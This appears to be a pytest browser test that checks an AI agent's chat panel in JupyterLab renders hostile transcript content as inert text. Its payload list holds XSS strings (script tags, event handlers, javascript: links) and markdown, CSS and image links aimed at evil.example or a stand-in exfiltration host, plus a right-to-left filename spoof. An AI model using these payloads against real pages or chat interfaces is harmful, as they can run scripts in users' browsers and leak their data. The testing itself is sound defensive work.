"""A hostile transcript in real JupyterLab and Chromium: no request to another host, no script.

The notebook fills an agent's memory with XSS and exfiltration payloads (in user text, model
markdown, names, tool names, arguments and results), shows the panel, and lets the model
stream the same payloads live. Playwright's request listener records every request the page
makes; a real local "exfiltration" server on another port records every hit; the console and
dialog listeners catch any payload that runs. A final control request made on purpose proves
both recorders work.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, ClassVar
from urllib.parse import urlsplit

import pytest
from lab_page import open_and_run_all
from lab_server import LabServer

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

RAN = "XSS-RAN"
JS = f"console.log('{RAN}');window.__xss=1"
PAYLOADS = [
    f"<script>{JS}</script>",
    f'<img src=x onerror="{JS}">',
    f'"><svg onload="{JS}">',
    "<iframe src={EXFIL}/iframe></iframe>",
    f"[click](javascript:{JS})",
    "![leak]({EXFIL}/leak.png?d=SECRET-MARKER)",
    "![leak](//evil.example/proto-relative.png)",
    "![leak][ref]\n\n[ref]: {EXFIL}/ref.png",
    "![remote](https://evil.example/remote.png)",
    '<img src="{EXFIL}/raw.png">',
    "<style>@import url({EXFIL}/x.css)</style>",
    "<link rel=stylesheet href={EXFIL}/link.css>",
    '<div style="background:url({EXFIL}/bg.png)">bg</div>',
    '<object data="{EXFIL}/obj"></object>',
    f'<details open ontoggle="{JS}">',
    f"</code></pre></details><script>{JS}</script>",
    "| a | <img src={EXFIL}/table.png> |\n|---|---|\n| ![t]({EXFIL}/cell.png) | b |",
    "<meta http-equiv=refresh content='0;url={EXFIL}/meta'>",
    "report\u202efdp.exe",
]

NOTEBOOK = """\
import json
from nb_hitl import Msg, ReActAgent, ScriptedModel
from nb_hitl.message import ImageBlock, TextBlock, ToolResultBlock, ToolUseBlock, URLSource
from nb_hitl.widgets import AgentPanel
P = json.loads({payloads!r})
live = "\\n\\n".join(P)
agent = ReActAgent(P[1], P[0], ScriptedModel([live], tokens_per_second=3000))
for i, p in enumerate(P):
    agent.memory.add_sync(Msg(p, p, "user"))
    agent.memory.add_sync(Msg(p, [TextBlock(text=p),
                                  ToolUseBlock(id=f"c{{i}}", name=p, input={{"q": p, p: p}})],
                              "assistant"))
    agent.memory.add_sync(Msg("system", [ToolResultBlock(id=f"c{{i}}", name=p, output=p)],
                              "system"))
agent.memory.add_sync(Msg("Friday", [ImageBlock(source=URLSource(url=P[5][8:-1]))], "assistant"))
panel = AgentPanel(agent, chat={{"max_rendered": 500, "user_name": P[2]}}, session=None)
display(panel)
panel.chat.send(live)"""


class _Recorder(BaseHTTPRequestHandler):
    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        type(self).hits.append(self.path)
        self.send_response(204)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def exfil_server() -> Iterator[tuple[str, list[str]]]:
    """A real HTTP server on another port, standing for the attacker's host."""
    hits: list[str] = []
    handler = type("Recorder", (_Recorder,), {"hits": hits})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", hits
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


def origin(url: str) -> str:
    parts = urlsplit(url)
    return f"{parts.scheme}://{parts.netloc}"


def test_a_hostile_transcript_fetches_nothing_and_runs_nothing(
    browser: Any, lab: LabServer, exfil_server: tuple[str, list[str]]
) -> None:
    exfil, hits = exfil_server
    payloads = [p.replace("{EXFIL}", exfil) for p in PAYLOADS]
    url = lab.write_notebook("hostile.ipynb", [NOTEBOOK.format(payloads=json.dumps(payloads))])
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    requests: list[str] = []
    ran: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    page.on("console", lambda m: ran.append(m.text) if RAN in m.text else None)
    page.on("dialog", lambda d: (ran.append(f"dialog {d.message}"), d.dismiss()))
    page.on("pageerror", lambda exc: ran.append(f"pageerror {exc}") if RAN in str(exc) else None)
    try:
        open_and_run_all(page, url)
        page.wait_for_selector(".nb-hitl-chat textarea", timeout=90_000)
        page.wait_for_selector(".nb-hitl-status[data-state='idle']", timeout=90_000)
        page.wait_for_function(
            "document.querySelectorAll('.nb-hitl-rows .nb-hitl-msg').length > 50",
            timeout=60_000,
        )
        page.wait_for_timeout(2_000)  # time for any lazy fetch to happen
        lab_origin = origin(lab.url)
        elsewhere = [
            u for u in requests if not u.startswith(("data:", "blob:")) and origin(u) != lab_origin
        ]
        assert elsewhere == [] and hits == []
        assert ran == [] and page.evaluate("window.__xss") is None

        # The payloads are on the page, as text and as image links nobody clicked.
        text = page.locator(".nb-hitl-chat").first.inner_text()
        assert "<script>console.log" in text and "report\u202efdp.exe" in text
        assert page.locator(".nb-hitl-chat a.nb-hitl-image-link").count() >= 3
        assert page.locator(".nb-hitl-chat img").count() == 0
        # Control: a request made on purpose is seen by both recorders.
        page.evaluate(f"fetch('{exfil}/control').catch(() => 0)")
        page.wait_for_timeout(1_000)
        assert any(u.startswith(f"{exfil}/control") for u in requests)
        assert hits == ["/control"]
    finally:
        page.close()
        lab.shutdown_kernels()
